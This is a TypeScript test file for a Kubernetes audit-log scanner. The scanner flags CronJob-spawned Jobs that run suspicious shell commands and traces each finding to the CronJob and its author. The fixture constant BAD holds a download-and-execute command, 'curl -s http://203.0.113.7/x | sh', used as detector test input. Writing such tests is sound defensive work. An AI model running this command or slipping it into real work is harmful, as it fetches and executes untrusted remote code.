import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { Finding } from '../model/finding.ts';
import { type ScanOptions, scan } from './scan.ts';
import { controllerJob, lease, withoutPlaces, workloadOf, writeOf } from './testing.ts';

const folder = mkdtempSync(join(tmpdir(), 'cronwarden-unclaimed-'));
after(() => rmSync(folder, { recursive: true, force: true }));

let files = 0;
const run = async (events: readonly object[], options: Partial<ScanOptions> = {}): Promise<readonly Finding[]> => {
  const path = join(folder, `${++files}.jsonl`);
  writeFileSync(path, `${events.map((event) => JSON.stringify(event)).join('\n')}\n`);
  const findings: Finding[] = [];
  for await (const finding of scan({ paths: [path], jobs: 1, minSeverity: 'low', ...options }).findings)
    findings.push(finding);
  return findings;
};

const BAD = 'curl -s http://203.0.113.7/x | sh';
const spec = (shell: string) => ({
  restartPolicy: 'Never',
  containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', shell] }],
});
/** The Job of a tick, as the CronJob controller makes it. */
const tick = (index: number, shell: string, owned = true): object => {
  const made = controllerJob({ index, owned });
  const body = { ...made.requestObject, spec: { template: { spec: spec(shell) } } };
  return { ...made, requestObject: body, responseObject: body };
};
const cronJob = (shell: string): object =>
  writeOf({
    minute: 0,
    resource: 'cronjobs',
    apiGroup: 'batch',
    name: 'tick',
    namespace: 'dev',
    body: workloadOf('CronJob', 'tick', spec(shell)),
  });

test('a CronJob that was there before the log began is found by what its controller makes, once', async () => {
  const findings = await run([tick(1, BAD), lease(2), tick(3, BAD), tick(5, BAD)]);
  const [finding] = findings;
  assert.equal(findings.length, 1);
  assert.equal(finding?.severity, 'high');
  assert.equal(finding?.workload.name, 'tick-1');
  assert.match(
    finding?.summary ?? '',
    /It was made of CronJob dev\/tick, whose writing this log does not show: who asked for it is not known\. It ran 3 times/,
  );
  assert.deepEqual(
    finding?.lineage.slice(1).map(({ from, to, certainty }) => `${from.kind} ${from.name} > ${to.name} ${certainty}`),
    ['CronJob tick > tick-1 proved', 'CronJob tick > tick-3 proved', 'CronJob tick > tick-5 proved'],
  );
});

test('with its author in the log the finding is the author’s alone', async () => {
  const findings = await run([cronJob(BAD), tick(1, BAD), tick(3, BAD)]);
  assert.deepEqual(
    findings.map(({ workload, actor }) => `${workload.kind} ${workload.name} ${actor.kind}`),
    ['CronJob tick human'],
  );
});

test('ordinary work of unknown authors is none', async () => {
  assert.deepEqual(await run([tick(1, 'date'), tick(2, 'curl -fsS https://shop.example.com/health')]), []);
});

test('the result does not depend on jobs, on where parts begin, on the gate, or on the order of records', async () => {
  const events = [tick(1, BAD), lease(2), tick(3, BAD), lease(4), tick(5, BAD)];
  const plain = (findings: readonly Finding[]) => findings.map(withoutPlaces);
  const expected = plain(await run(events));
  for (const options of [
    { partBytes: 1 },
    { partBytes: 1500 },
    { jobs: 2, partBytes: 2000, inlineBytes: 0 },
    { strict: true },
  ]) {
    assert.deepEqual(plain(await run(events, options)), expected, JSON.stringify(options));
  }
  assert.deepEqual(plain(await run([...events].reverse())), expected);
});
